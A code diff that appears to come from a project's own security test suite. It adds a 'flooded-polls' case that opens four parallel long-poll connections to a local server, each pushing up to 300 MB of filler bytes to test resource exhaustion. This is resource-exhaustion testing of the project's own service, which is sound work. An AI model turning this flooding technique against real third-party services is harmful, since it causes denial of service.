@@ -1,9 +1,10 @@
 /** What is asked for with a key or a session, and costs more to answer than to ask. */
+import { once } from "node:events";
 import { DatabaseSync } from "node:sqlite";
 import { openTestLink } from "../../../test/services/postgres.ts";
 import { ATTACKER_FROM, type Attack } from "../attack.ts";
 import { secondOfMusic } from "../bombs.ts";
-import { exchange } from "../wire.ts";
+import { exchange, open } from "../wire.ts";
 
 export const READING: readonly Attack[] = [
   {
@@ -27,6 +28,28 @@ export const READING: readonly Attack[] = [
         attacker.notes.push(`${Math.round(bytes / Math.max(1, pages) / 1_000)} KB a page`);
       };
     },
+  },
+  {
+    name: "flooded-polls",
+    finding: "own",
+    what: "4 long-polls with 300 MB behind each, which are no request yet",
+    async prepare(attacker) {
+      const { port, attacker: account } = attacker.orders;
+      const url = `${attacker.orders.receiver}/hang/source.wav`;
+      const id = await attacker.submit(NORMALISE, { source: { url } });
+      const head = `GET /v1/${NORMALISE}?id=${id}&wait=true HTTP/1.1\r\nhost: 127.0.0.1:${port}\r\nauthorization: Bearer ${account.key}\r\n\r\n`;
+      const flood = Buffer.alloc(1_000_000, "a");
+      return () =>
+        attacker.inParallel(4, async () => {
+          const socket = open(port, ATTACKER_FROM);
+          socket.write(head);
+          for (let megabytes = 0; megabytes < 300 && !attacker.isOver && !socket.destroyed; megabytes++)
+            if (!socket.write(flood)) await Promise.race([once(socket, "drain"), once(socket, "close")]).catch(() => 0);
+          while (!attacker.isOver && !socket.destroyed) await attacker.pause(50);
+          socket.destroy();
+        });
+    },
+    needs: "receiver",
   },
   {
     name: "multipart-in-bytes",
